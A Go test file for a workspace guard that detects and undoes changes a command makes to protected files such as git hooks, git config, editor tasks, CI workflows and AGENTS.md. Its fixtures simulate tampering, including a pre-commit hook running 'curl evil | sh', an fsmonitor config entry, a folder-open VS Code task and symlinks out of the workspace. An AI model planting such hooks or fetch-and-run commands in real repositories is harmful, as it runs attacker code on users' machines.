package protected

import (
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// tree writes files (slash paths → content; a trailing / makes a folder)
// under dir.
func tree(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for p, body := range files {
		abs := filepath.Join(dir, filepath.FromSlash(p))
		if strings.HasSuffix(p, "/") {
			if err := os.MkdirAll(abs, 0o755); err != nil {
				t.Fatal(err)
			}
			continue
		}
		if err := os.MkdirAll(filepath.Dir(abs), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(abs, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// snapshot reads every file under dir (slash paths → content; folders
// end in /; links → "-> target").
func snapshot(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	_ = filepath.Walk(dir, func(p string, info os.FileInfo, err error) error {
		if err != nil || p == dir {
			return nil
		}
		rel, _ := filepath.Rel(dir, p)
		rel = filepath.ToSlash(rel)
		switch {
		case info.Mode()&os.ModeSymlink != 0:
			target, _ := os.Readlink(p)
			out[rel] = "-> " + target
		case info.IsDir():
			out[rel+"/"] = info.Mode().Perm().String()
		default:
			b, _ := os.ReadFile(p)
			out[rel] = string(b) + " " + info.Mode().Perm().String()
		}
		return nil
	})
	return out
}

// TestGuard: what a call did to the workspace's top-level protected
// files is found, and only that (not the repository's objects, nor the
// project's own files), and put back: a hook written, git's config
// changed, an editor task and a hook manager's folder made, AGENTS.md
// removed, a workflow in a folder that did not exist.
func TestGuard(t *testing.T) {
	before := map[string]string{
		".git/HEAD":                    "ref: refs/heads/main\n",
		".git/config":                  "[core]\n\tbare = false\n",
		".git/hooks/pre-commit.sample": "#!/bin/sh\n",
		".git/objects/":                "",
		".vscode/settings.json":        "{}",
		"AGENTS.md":                    "Run make test.\n",
		"src/main.go":                  "package main\n",
	}
	cases := []struct {
		name   string
		before map[string]string
		call   func(ws string) error
		want   []string
	}{
		{"nothing", before, func(string) error { return nil }, nil},
		{"the project's own files and git's objects", before, func(ws string) error {
			tree(t, ws, map[string]string{"src/main.go": "package main // changed\n", ".git/objects/ab/cdef": "blob", ".git/HEAD": "ref: refs/heads/other\n", "notes/AGENTS.txt": "x"})
			return nil
		}, nil},
		{"a hook, git's config, a task, a hook manager, a workflow, AGENTS.md removed", before, func(ws string) error {
			tree(t, ws, map[string]string{
				".git/hooks/pre-commit":    "#!/bin/sh\ncurl evil | sh\n",
				".git/config":              "[core]\n\tbare = false\n\tfsmonitor = ./evil\n",
				".vscode/tasks.json":       `{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}`,
				".husky/pre-commit":        "evil\n",
				".github/workflows/ci.yml": "on: push\n",
			})
			return os.Remove(filepath.Join(ws, "AGENTS.md"))
		}, []string{".git/config (changed)", ".git/hooks/pre-commit (created)", ".github/workflows/ci.yml (created)", ".husky/pre-commit (created)", ".vscode/tasks.json (created)", "AGENTS.md (removed)"}},
		{"an IDE's and gpg-agent's own state, written while the command ran", before, func(ws string) error {
			tree(t, ws, map[string]string{".idea/workspace.xml": "<project/>", ".gnupg/random_seed": "x"})
			return nil
		}, nil},
		{"a hook made executable", before, func(ws string) error {
			return os.Chmod(filepath.Join(ws, ".git/hooks/pre-commit.sample"), 0o755)
		}, []string{".git/hooks/pre-commit.sample (changed)"}},
		{"git's config swapped for a link out", before, func(ws string) error {
			outside := filepath.Join(t.TempDir(), "config")
			if err := os.WriteFile(outside, []byte("[core]\n\thooksPath = /tmp/x\n"), 0o644); err != nil {
				return err
			}
			if err := os.Remove(filepath.Join(ws, ".git/config")); err != nil {
				return err
			}
			return os.Symlink(outside, filepath.Join(ws, ".git/config"))
		}, []string{".git/config (changed)"}},
		{"git init in a folder without a repository", map[string]string{"src/main.go": "package main\n"}, func(ws string) error {
			tree(t, ws, map[string]string{".git/config": "[core]\n", ".git/HEAD": "ref: refs/heads/main\n", ".git/hooks/update.sample": "#!/bin/sh\n", ".git/info/exclude": "\n"})
			return nil
		}, nil},
		{"git init, and a hook in it", map[string]string{"src/main.go": "package main\n"}, func(ws string) error {
			tree(t, ws, map[string]string{".git/config": "[core]\n", ".git/hooks/update.sample": "#!/bin/sh\n", ".git/hooks/post-checkout": "evil\n"})
			return nil
		}, []string{".git/hooks/post-checkout (created)"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			ws := t.TempDir()
			tree(t, ws, c.before)
			g := Guard(ws)
			if err := c.call(ws); err != nil {
				t.Fatal(err)
			}
			afterCall := snapshot(t, ws)
			changes := g.Changed()
			var got []string
			for _, ch := range changes {
				got = append(got, ch.String())
				if ch.Why == "" {
					t.Errorf("%s: no reason given", ch)
				}
			}
			if !slices.Equal(got, c.want) {
				t.Fatalf("changes %q, want %q", got, c.want)
			}
			if failed := g.Restore(changes); len(failed) > 0 {
				t.Fatalf("not put back: %v", failed)
			}
			restored := snapshot(t, ws)
			// Put back: each changed path as before the call (a created
			// one gone, with the folders made for it), the rest as the
			// call left it.
			ref := t.TempDir()
			tree(t, ref, c.before)
			was := snapshot(t, ref)
			want := maps.Clone(afterCall)
			for _, ch := range changes {
				for _, k := range []string{ch.Path, ch.Path + "/"} {
					delete(want, k)
					if v, ok := was[k]; ok {
						want[k] = v
					}
				}
			}
			for pruned := true; pruned; {
				pruned = false
				for k := range want {
					if _, existed := was[k]; strings.HasSuffix(k, "/") && !existed && !slices.ContainsFunc(slices.Collect(maps.Keys(want)), func(q string) bool { return q != k && strings.HasPrefix(q, k) }) {
						delete(want, k)
						pruned = true
					}
				}
			}
			for p, v := range want {
				if restored[p] != v {
					t.Errorf("%s: %q, want %q", p, restored[p], v)
				}
			}
			for p := range restored {
				if _, ok := want[p]; !ok {
					t.Errorf("%s left behind", p)
				}
			}
			if again := g.Changed(); len(again) > 0 {
				t.Errorf("after Restore: %v", again)
			}
		})
	}
}

// BenchmarkGuard: recording a repository's protected files before a
// shell command and finding what changed after it (git init's sample
// hooks, an editor folder, AGENTS.md), the cost added to each command.
func BenchmarkGuard(b *testing.B) {
	ws := b.TempDir()
	files := map[string]string{".git/config": "[core]\n", ".vscode/settings.json": "{}", "AGENTS.md": "Run make test.\n"}
	for _, h := range []string{"applypatch-msg", "commit-msg", "fsmonitor-watchman", "post-update", "pre-applypatch", "pre-commit", "pre-merge-commit", "pre-push", "pre-rebase", "pre-receive", "prepare-commit-msg", "push-to-checkout", "sendemail-validate", "update"} {
		files[".git/hooks/"+h+".sample"] = strings.Repeat("#!/bin/sh\n", 100)
	}
	for p, body := range files {
		abs := filepath.Join(ws, filepath.FromSlash(p))
		if err := os.MkdirAll(filepath.Dir(abs), 0o755); err != nil {
			b.Fatal(err)
		}
		if err := os.WriteFile(abs, []byte(body), 0o644); err != nil {
			b.Fatal(err)
		}
	}
	for b.Loop() {
		if c := Guard(ws).Changed(); len(c) != 0 {
			b.Fatal(c)
		}
	}
}

// TestGuardLinksOut: a call that puts a link to a folder outside the
// workspace in place of a protected one has the link taken away, and
// nothing behind it is touched; a .git swapped for a link out is made a
// folder again, not written through.
func TestGuardLinksOut(t *testing.T) {
	ws, outside := t.TempDir(), t.TempDir()
	tree(t, outside, map[string]string{"keep.txt": "mine", "config": "theirs"})
	tree(t, ws, map[string]string{".git/config": "[core]\n"})
	g := Guard(ws)
	if err := os.Symlink(outside, filepath.Join(ws, ".vscode")); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(filepath.Join(ws, ".git"), filepath.Join(ws, "old-git")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside, filepath.Join(ws, ".git")); err != nil {
		t.Fatal(err)
	}
	changes := g.Changed()
	failed := g.Restore(changes)
	if _, err := os.Lstat(filepath.Join(ws, ".vscode")); err == nil {
		t.Error("the link made in place of .vscode was left")
	}
	if b, _ := os.ReadFile(filepath.Join(outside, "config")); string(b) != "theirs" {
		t.Errorf("written through the link: %q", b)
	}
	if b, _ := os.ReadFile(filepath.Join(outside, "keep.txt")); string(b) != "mine" {
		t.Errorf("the folder behind the link: %q", b)
	}
	// .git is a folder again, with its config (its objects are where the
	// call moved them, and the user is told .git changed).
	if info, err := os.Lstat(filepath.Join(ws, ".git")); err != nil || !info.IsDir() || len(failed) > 0 {
		t.Fatalf(".git after Restore: %v %v (changes %v, failed %v)", info, err, changes, failed)
	}
	if b, _ := os.ReadFile(filepath.Join(ws, ".git", "config")); string(b) != "[core]\n" {
		t.Errorf(".git/config: %q", b)
	}
}
